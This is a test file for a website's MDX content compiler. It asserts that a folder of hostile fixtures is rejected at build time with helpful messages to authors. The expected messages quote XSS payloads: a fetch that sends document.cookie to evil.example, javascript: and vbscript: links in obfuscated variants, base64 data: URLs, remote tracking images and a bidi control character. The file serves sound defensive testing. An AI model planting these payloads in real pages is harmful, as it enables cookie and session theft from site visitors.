// Content must not be able to run code on readers' machines: every hostile fixture in
// tests/fixtures/hostile/ is rejected by the real compile pipeline, and the author is told
// the file, the line and what to write instead.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileMdx } from '../../../src/lib/markdown/compile-mdx';
import { ContentError, formatProblem } from '../../../src/lib/markdown/content-error';
import { REPO_ROOT } from '../../support/paths';

const FOLDER = 'tests/fixtures/hostile';

/** Compiles a fixture and returns each problem as the author sees it: `file:line:column message`. */
function rejectionOf(name: string): string[] {
  const file = `${FOLDER}/${name}.mdx`;
  const source = readFileSync(join(REPO_ROOT, file), 'utf8');
  try {
    compileMdx(source, { file });
  } catch (error) {
    if (error instanceof ContentError) return error.problems.map(formatProblem);
    throw error;
  }
  return [];
}

describe('hostile content is rejected at build', () => {
  const fixtures = readdirSync(join(REPO_ROOT, FOLDER))
    .filter((name) => name.endsWith('.mdx'))
    .map((name) => name.replace(/\.mdx$/, ''))
    .sort();

  it('expects a rejection for every fixture in the folder, and has a fixture for each', () => {
    expect(fixtures).toEqual(Object.keys(REJECTIONS).sort());
  });

  it('accepts an ordinary paragraph, so the rejections below are about the hostile part', () => {
    expect(() =>
      compileMdx('An ordinary paragraph written by an author.\n', { file: 'ok.mdx' }),
    ).not.toThrow();
  });

  it.each(fixtures)('rejects %s, with the file, the line and what to write instead', (name) => {
    const rejection = rejectionOf(name);
    expect(rejection.length, `${name} was accepted`).toBeGreaterThan(0);
    expect(rejection).toEqual(REJECTIONS[name]);
  });
});

/** What the author is told for each fixture, as `file:line:column message`. */
const REJECTIONS: Record<string, string[]> = {
  'backslash-image': [
    'tests/fixtures/hostile/backslash-image.mdx:3:1 The image "\\\\evil.example/p.gif" has a backslash (\\) in it, which web addresses do not use. Write / instead: "/evil.example/p.gif".',
  ],
  'bidi-reference': [
    'tests/fixtures/hostile/bidi-reference.mdx:3:1 The character reference &#x202E; stands for an invisible character (U+202E), which would be published unseen. Delete it.',
  ],
  'data-image': [
    'tests/fixtures/hostile/data-image.mdx:3:1 The image "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'data-link': [
    'tests/fixtures/hostile/data-link.mdx:3:1 The link "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  export: [
    'tests/fixtures/hostile/export.mdx:3:1 import and export are not allowed in content: content cannot run code. Delete this line; the site provides the components you may use.',
  ],
  'expression-flow': [
    "tests/fixtures/hostile/expression-flow.mdx:3:1 {fetch('https://evil.example/?c=' + document.cookie)} is code and cannot run in content. To show curly brackets as text, write \\{ and \\}.",
  ],
  'expression-inline': [
    'tests/fixtures/hostile/expression-inline.mdx:3:14 {1 + 1} is code and cannot run in content. To show curly brackets as text, write \\{ and \\}.',
  ],
  'expression-prop': [
    'tests/fixtures/hostile/expression-prop.mdx:3:12 <Addresses> recommendation must be text in quotes: the id of a recommendation, or several ids separated by spaces.',
  ],
  fragment: [
    'tests/fixtures/hostile/fragment.mdx:3:1 <> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  'html-comment': [
    'tests/fixtures/hostile/html-comment.mdx:3:2 HTML comments (<!-- … -->) cannot be used in content. Delete the comment: notes for editors belong outside the published file.',
  ],
  'https-autolink': [
    'tests/fixtures/hostile/https-autolink.mdx:3:8 Links in angle brackets (<https://www.gov.uk/>) cannot be used in content. Write [the words to click](https://…) instead.',
  ],
  iframe: [
    'tests/fixtures/hostile/iframe.mdx:3:1 <iframe> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  import: [
    'tests/fixtures/hostile/import.mdx:3:1 import and export are not allowed in content: content cannot run code. Delete this line; the site provides the components you may use.',
  ],
  'javascript-autolink': [
    'tests/fixtures/hostile/javascript-autolink.mdx:3:18 Links in angle brackets (<javascript:alert(1)>) cannot be used in content. Write [the words to click](https://…) instead.',
  ],
  'javascript-image': [
    'tests/fixtures/hostile/javascript-image.mdx:3:1 The image "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'javascript-link': [
    'tests/fixtures/hostile/javascript-link.mdx:3:1 The link "javascript:alert(document.cookie)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'javascript-link-entity': [
    'tests/fixtures/hostile/javascript-link-entity.mdx:3:1 The link "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'javascript-link-mixed-case': [
    'tests/fixtures/hostile/javascript-link-mixed-case.mdx:3:1 The link "JaVaScRiPt:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'javascript-link-tab': [
    'tests/fixtures/hostile/javascript-link-tab.mdx:3:1 The link "java\\tscript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'javascript-reference': [
    'tests/fixtures/hostile/javascript-reference.mdx:5:1 The link "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
  'onclick-prop': [
    'tests/fixtures/hostile/onclick-prop.mdx:3:53 <Addresses> has no prop "onClick"; it takes: recommendation.',
  ],
  'onload-img': [
    'tests/fixtures/hostile/onload-img.mdx:3:1 <img> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses). Content pages carry text only: say in words what the image shows, if it matters.',
  ],
  'raw-anchor': [
    'tests/fixtures/hostile/raw-anchor.mdx:3:1 <a> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses). For a link, write [the words](https://…).',
  ],
  'remote-image': [
    'tests/fixtures/hostile/remote-image.mdx:3:1 The image "https://evil.example/pixel.png" is on another website, so every reader\'s browser would contact that site. Link to it instead: [description](https://evil.example/pixel.png), or add the image to this site.',
  ],
  'remote-image-reference': [
    'tests/fixtures/hostile/remote-image-reference.mdx:3:1 The image "//evil.example/pixel.png" is on another website, so every reader\'s browser would contact that site. Link to it instead: [description](//evil.example/pixel.png), or add the image to this site.',
  ],
  script: [
    'tests/fixtures/hostile/script.mdx:3:1 <script> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  'script-src': [
    'tests/fixtures/hostile/script-src.mdx:3:1 <script> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  'spread-prop': [
    'tests/fixtures/hostile/spread-prop.mdx:3:12 <Addresses> cannot take {…} props: content cannot run code. Use <Addresses recommendation="ncpi-wiltshire-2022-supervision">, then the paragraphs, then </Addresses>, each on its own line with blank lines around the paragraphs.',
    'tests/fixtures/hostile/spread-prop.mdx:3:1 <Addresses> needs recommendation="…": the id of a recommendation, or several ids separated by spaces.',
  ],
  style: [
    'tests/fixtures/hostile/style.mdx:3:22 <style> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  'unknown-component': [
    'tests/fixtures/hostile/unknown-component.mdx:3:1 <Chart> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).',
  ],
  'vbscript-link': [
    'tests/fixtures/hostile/vbscript-link.mdx:3:1 The link "vbscript:msgbox(\\"hello\\")" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.',
  ],
};
